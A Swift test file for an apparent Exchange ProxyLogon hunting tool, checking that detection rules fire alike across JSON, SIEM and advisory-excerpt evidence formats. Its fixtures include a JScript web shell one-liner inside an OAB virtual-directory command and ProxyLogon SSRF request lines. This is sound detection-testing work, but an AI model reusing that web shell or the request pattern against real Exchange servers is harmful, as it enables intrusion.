import ExchangeDetection
import ExchangeEvidence
import Foundation
import TestSupport
import Testing

/// Evidence as responders have it (JSON event exports, Test-ProxyLogon output, advisory excerpts) must give
/// the findings the original logs give.
@Suite struct EvidenceShapesHuntTests {
    static let shapes = RuleFixtures.testsDir.deletingLastPathComponent().appendingPathComponent("ExchangeEvidenceTests/Fixtures")
    static let packageRoot = RuleFixtures.testsDir.deletingLastPathComponent().deletingLastPathComponent()

    static func hunt(_ paths: [String]) throws -> [Finding] {
        let store = EventStore()
        for p in paths { _ = try EvidenceLoader(workers: 1).load(p, into: store) }
        return Hunter().run(on: store).findings
    }

    /// What a finding says, without where its events were stored (file names and lines differ by shape).
    static func essence(_ f: [Finding]) -> [String] {
        f.map { "\($0.server) \($0.rule) \(Timestamp.iso($0.time)) \($0.summary)" }.sorted()
    }

    @Test(arguments: ["nxlog.jsonl", "winlogbeat.jsonl", "velociraptor.jsonl", "splunk.jsonl", "powershell.json", "nxlog.jsonl.gz"])
    func jsonEventExportsFireTheEventLogRules(_ name: String) throws {
        let findings = try Self.hunt([Self.shapes.appendingPathComponent("json/" + name).path])
        let rules = Set(findings.map(\.rule))
        #expect(rules.contains("proxylogon.um-deserialization"), "\(name)")
        #expect(rules.contains("process.webserver-shell"), "\(name)")
        // Splunk's classic text keeps the rendered message, not the event data: the UM summary quotes it instead.
        let xml = try Self.hunt([Self.shapes.appendingPathComponent("json/events.xml").path])
        if name != "splunk.jsonl" { #expect(Self.essence(findings) == Self.essence(xml), "\(name)") }
    }

    @Test func advisoryExcerptsWithoutHeadersFire() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-excerpt-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        try """
        2021-03-05 03:06:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133

        """.write(to: dir.appendingPathComponent("iis.txt"), atomically: true, encoding: .utf8)
        try """
        2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''

        """.write(to: dir.appendingPathComponent("ecp.txt"), atomically: true, encoding: .utf8)
        try """
        2021-03-03T06:49:46.210Z,130.255.189.21,/ecp/y.js,ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,241
        2021-03-03T06:59:20.359Z,130.255.189.21,/ecp/y.js,ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,200

        """.write(to: dir.appendingPathComponent("owa.txt"), atomically: true, encoding: .utf8)
        let rules = Set(try Self.hunt([dir.path]).map(\.rule))
        #expect(rules.contains("iis.webshell-access"))
        #expect(rules.contains("proxylogon.ecp-set-vdir"))
        #expect(rules.contains("proxylogon.ssrf"))
        #expect(rules.contains("proxylogon.reset-vdir"))
    }

    /// `export proxylogon` then `load` of its folder: the findings Test-ProxyLogon's checks stand for come back.
    @Test func exportProxyLogonLoadsBackToTheSameFindings() throws {
        let original = try RuleFixtures.store("proxylogon", "hostlogs", "files")
        let before = Hunter().run(on: original).findings
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-tpl-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        _ = try ProxyLogonExport.write(store: original, findings: before, to: dir)
        let after = try Self.hunt([dir.path])
        // The rules whose evidence the export carries (the script drops autodiscover and localhost rows, and
        // keeps only the names of the ECP and OAB logs it flagged).
        let covered: Set<String> = ["proxylogon.ssrf", "proxylogon.reset-vdir", "proxylogon.um-deserialization",
                                    "proxylogon.oab-download", "files.lsass-dump", "files.programdata-archive"]
        func rules(_ f: [Finding]) -> [String] { f.filter { covered.contains($0.rule) }.map { "\($0.server) \($0.rule)" }.sorted() }
        #expect(rules(before).count >= covered.count)
        #expect(rules(after) == rules(before))
        // Where the export keeps all the finding rests on, the finding reads the same.
        func summaries(_ f: [Finding], _ ids: Set<String>) -> [String] { f.filter { ids.contains($0.rule) }.map(\.summary).sorted() }
        let same: Set<String> = ["proxylogon.reset-vdir", "proxylogon.oab-download"]
        #expect(summaries(after, same) == summaries(before, same))
        #expect(after.first { $0.rule == "proxylogon.um-deserialization" }?.summary.contains("System.InvalidCastException") == true)
        #expect(Set(after.map(\.server)) == ["EX01"])
    }

    /// The training set with its event logs converted to winlogbeat JSON by `scripts/events-to-json` hunts
    /// exactly like the original (every rule, server, time and summary).
    @Test(arguments: ["winlogbeat", "nxlog", "velociraptor", "splunk"])
    func trainingSetAsJSONGivesTheSameFindings(_ shape: String) throws {
        let training = Self.packageRoot.appendingPathComponent("help/training")
        let out = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-\(shape)-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: out) }
        let r = try Subprocess.run("python3", [Self.packageRoot.appendingPathComponent("scripts/events-to-json").path,
                                                "--shape", shape, training.path, out.path], timeout: 300)
        if r.status == 127 {
            print("skipped: python3 is not available")
            return
        }
        try #require(r.status == 0, "scripts/events-to-json failed: \(r.stderr)")
        let converted = try FileManager.default.contentsOfDirectory(atPath: out.appendingPathComponent("EX01/eventlogs").path)
        #expect(converted.allSatisfy { $0.hasSuffix(".jsonl") } && converted.count == 4)
        let original = Self.essence(try Self.hunt([training.path]))
        let fromJSON = Self.essence(try Self.hunt([out.path]))
        #expect(original.count > 20)
        #expect(fromJSON == original)
    }

    /// The training set's IIS logs as SIEMs export them (Sentinel's `W3CIISLog` as JSON and as the portal's CSV,
    /// Filebeat documents in Elasticsearch hits, Splunk's CSV of raw events) hunt exactly like the logs.
    @Test(arguments: ["sentinel.json", "sentinel.csv", "filebeat.ndjson", "splunk.csv"])
    func trainingIISLogsAsSIEMExportsGiveTheSameFindings(_ name: String) throws {
        let training = Self.packageRoot.appendingPathComponent("help/training")
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-siem-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        var lines: [(server: String, fields: [String: String], raw: String)] = []
        for server in ["EX01", "EX02"] {
            let site = training.appendingPathComponent("\(server)/C/inetpub/logs/LogFiles/W3SVC1")
            for log in try FileManager.default.contentsOfDirectory(atPath: site.path).sorted() {
                let copy = dir.appendingPathComponent("logs/\(server)/C/inetpub/logs/LogFiles/W3SVC1/\(log)")
                try FileManager.default.createDirectory(at: copy.deletingLastPathComponent(), withIntermediateDirectories: true)
                try FileManager.default.copyItem(at: site.appendingPathComponent(log), to: copy)
                var names: [String] = []
                for line in try String(contentsOf: copy, encoding: .utf8).split(whereSeparator: \.isNewline) {
                    if line.hasPrefix("#Fields: ") { names = line.dropFirst(9).split(separator: " ").map(String.init); continue }
                    if line.hasPrefix("#") { continue }
                    let values = line.split(separator: " ", omittingEmptySubsequences: false).map(String.init)
                    lines.append((server, Dictionary(uniqueKeysWithValues: zip(names, values)), String(line)))
                }
            }
        }
        #expect(lines.count > 500)
        func v(_ f: [String: String], _ k: String) -> String { f[k].map { $0 == "-" ? "" : $0 } ?? "" }
        func json(_ s: String) -> String {
            "\"" + s.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
        }
        func csv(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        let sentinel = ["csMethod": "cs-method", "csUriStem": "cs-uri-stem", "csUriQuery": "cs-uri-query", "sIP": "s-ip",
                        "sPort": "s-port", "csUserName": "cs-username", "cIP": "c-ip", "csUserAgent": "cs(User-Agent)",
                        "csReferer": "cs(Referer)", "scStatus": "sc-status", "scSubStatus": "sc-substatus",
                        "scWin32Status": "sc-win32-status", "TimeTaken": "time-taken"].sorted { $0.key < $1.key }
        var text = ""
        switch name {
        case "sentinel.json":
            text = "[\n" + lines.map { l in
                "  {\"TimeGenerated\": \(json(v(l.fields, "date") + "T" + v(l.fields, "time") + "Z")), \"Computer\": \(json(l.server + ".contoso.local")), "
                    + "\"sSiteName\": \"W3SVC1\", \"Type\": \"W3CIISLog\", "
                    + sentinel.map { "\(json($0.key)): \(json(v(l.fields, $0.value)))" }.joined(separator: ", ") + "}"
            }.joined(separator: ",\n") + "\n]\n"
        case "sentinel.csv":
            text = "TimeGenerated [UTC],Computer,sSiteName," + sentinel.map(\.key).joined(separator: ",") + ",Type\r\n"
            for l in lines {
                let (d, t) = (v(l.fields, "date").split(separator: "-").map { Int($0)! }, v(l.fields, "time").split(separator: ":").map { Int($0)! })
                let hour12 = t[0] % 12 == 0 ? 12 : t[0] % 12
                let when = "\(d[1])/\(d[2])/\(d[0]), \(hour12):\(String(format: "%02d:%02d", t[1], t[2])).000 \(t[0] < 12 ? "AM" : "PM")"
                text += ([when, l.server, "W3SVC1"] + sentinel.map { v(l.fields, $0.value) }).map(csv).joined(separator: ",") + ",W3CIISLog\r\n"
            }
        case "filebeat.ndjson":
            for (k, l) in lines.enumerated() {
                let f = l.fields
                var source = "{\"@timestamp\": \(json(v(f, "date") + "T" + v(f, "time") + ".000Z")), \"host\": {\"name\": \(json(l.server))}, "
                    + "\"event\": {\"module\": \"iis\", \"dataset\": \"iis.access\"}, \"destination\": {\"address\": \(json(v(f, "s-ip"))), \"port\": \(v(f, "s-port"))}, "
                    + "\"http\": {\"request\": {\"method\": \(json(v(f, "cs-method")))}, \"response\": {\"status_code\": \(v(f, "sc-status"))}}, "
                    + "\"url\": {\"path\": \(json(v(f, "cs-uri-stem")))" + (v(f, "cs-uri-query").isEmpty ? "" : ", \"query\": \(json(v(f, "cs-uri-query")))") + "}, "
                    + "\"source\": {\"address\": \(json(v(f, "c-ip")))}, \"iis\": {\"access\": {\"site_name\": \"W3SVC1\", \"sub_status\": \(v(f, "sc-substatus")), \"win32_status\": \(v(f, "sc-win32-status"))}}"
                // Filebeat's pipeline reads IIS's `+` back as a space; written back, it is `+` again.
                if !v(f, "cs(User-Agent)").isEmpty { source += ", \"user_agent\": {\"original\": \(json(v(f, "cs(User-Agent)").replacingOccurrences(of: "+", with: " ")))}" }
                if !v(f, "cs-username").isEmpty { source += ", \"user\": {\"name\": \(json(v(f, "cs-username")))}" }
                if !v(f, "cs(Referer)").isEmpty { source += ", \"http.request.referrer\": \(json(v(f, "cs(Referer)")))" }
                text += "{\"_index\": \"filebeat-7.11.1\", \"_id\": \"\(k)\", \"_source\": \(source)}}\n"
            }
        default:
            text = "\"_raw\",\"_time\",host,source,sourcetype\n"
            for l in lines {
                text += [l.raw, v(l.fields, "date") + "T" + v(l.fields, "time") + ".000+0000", l.server,
                         "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex.log", "ms:iis:auto"].map(csv).joined(separator: ",") + "\n"
            }
        }
        let export = dir.appendingPathComponent("export/" + name)
        try FileManager.default.createDirectory(at: export.deletingLastPathComponent(), withIntermediateDirectories: true)
        try text.write(to: export, atomically: true, encoding: .utf8)
        let original = Self.essence(try Self.hunt([dir.appendingPathComponent("logs").path]))
        let exported = Self.essence(try Self.hunt([export.path]))
        #expect(original.count >= 4)
        #expect(exported == original, "\(name)")
        // The export beside the logs it came from, either order: each request counted once (reviewer: a medium finding
        // turned high and a critical chain appeared from the same requests counted twice).
        #expect(Self.essence(try Self.hunt([dir.appendingPathComponent("logs").path, export.path])) == original, "\(name), logs first")
        #expect(Self.essence(try Self.hunt([export.path, dir.appendingPathComponent("logs").path])) == original, "\(name), export first")
    }
}
